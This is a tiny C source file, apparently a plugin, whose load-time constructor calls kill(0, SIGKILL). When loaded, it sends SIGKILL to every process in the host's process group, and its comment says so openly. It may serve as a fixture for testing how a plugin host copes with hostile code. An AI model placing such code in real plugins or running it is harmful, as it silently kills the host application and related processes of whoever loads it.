/* Kills whatever is in its group. */
#define _GNU_SOURCE
#include <signal.h>
#include "plugin.h"

__attribute__((constructor)) static void begin(void) { kill(0, SIGKILL); }
